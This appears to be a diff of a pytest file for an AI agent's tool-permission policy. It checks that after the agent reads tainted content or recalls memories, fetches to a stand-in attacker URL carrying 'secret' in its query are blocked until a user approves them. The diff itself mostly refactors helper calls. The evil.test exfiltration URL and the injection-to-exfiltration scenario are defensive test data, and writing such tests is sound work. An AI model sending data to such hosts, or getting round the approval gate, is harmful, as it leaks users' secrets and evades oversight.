@@ -21,7 +21,7 @@ from tools_app.policy.rules import AgentPolicy
 from tools_app.storage import artifacts, memories
 from tools_app.types import Decision, Effect, Reads, Risk, ToolError, ToolSpec
 
-pytestmark = pytest.mark.usefixtures("world")
+pytestmark = [pytest.mark.usefixtures("world"), pytest.mark.one_database]
 
 EVIL = "https://evil.test/?d=secret"
 _SCHEMA = {"type": "object", "properties": {"url": {"type": "string"}, "text": {"type": "string"}}}
@@ -132,7 +132,7 @@ def test_a_memory_keeps_the_origins_of_its_run(read, plan, session, fetch):
 
 def test_a_memory_of_a_session_without_taint_has_no_origins(plan, fetch):
     holder = memories.Holder("default", "user:7")
-    memories.store(holder, "a", "b", run_id=uuid4())
+    memories.store(holder, memories.Written("a", "b", uuid4()))
     (recalled,) = plan(("memory_recall", "{}"), session_id=(other := uuid4()))
     services.execute(recalled.id)
     assert fetch(EVIL, session_id=other)
@@ -221,7 +221,7 @@ def test_a_link_that_an_earlier_call_has_carried_out_is_no_link(read, plan, fetc
 
 def test_a_link_in_what_a_run_has_stored_is_no_link(read, plan, fetch, session):
     read("Go.", server="wiki")
-    memories.store(memories.Holder("default", "user:7"), "a", EVIL, run_id=uuid4())
+    memories.store(memories.Holder("default", "user:7"), memories.Written("a", EVIL, uuid4()))
     (recalled,) = plan(("memory_recall", "{}"), session_id=session.id)
     services.execute(recalled.id)
     assert not fetch(EVIL)
@@ -232,7 +232,9 @@ def test_allow_for_this_run_covers_reading_from_the_destination_by_every_tool(re
     read("Go.", server="wiki", run_id=run_id)
     assert not fetch(EVIL, run_id=run_id, step=1)
     approval = Approval.objects.get()
-    services.decide_approval(approval.id, decision=Decision.ALLOW_RUN, actor="user:1", policy=AgentPolicy())
+    services.decide_approval(
+        approval.id, decision=Decision.ALLOW_RUN, actor="user:1", policy=services.CurrentPolicy(AgentPolicy())
+    )
     assert fetch("https://evil.test/other", run_id=run_id, step=2)
     other = make_tool(lambda arguments, context: 1, name="other")
     other.spec = ToolSpec("other", "Sends.", _SCHEMA, other.spec.effect, Risk.LOW)
@@ -249,7 +251,9 @@ def test_allow_always_covers_the_host_in_later_runs(read, fetch):
     assert not fetch(EVIL)
     approval = Approval.objects.get()
     assert (approval.is_standing, approval.pattern) == (True, "web_fetch(url=https://evil.test/*)")
-    services.decide_approval(approval.id, decision=Decision.ALLOW_ALWAYS, actor="user:1", policy=AgentPolicy())
+    services.decide_approval(
+        approval.id, decision=Decision.ALLOW_ALWAYS, actor="user:1", policy=services.CurrentPolicy(AgentPolicy())
+    )
     assert fetch("https://evil.test/more", policy=AgentPolicy(agent_id="default"))
 
 
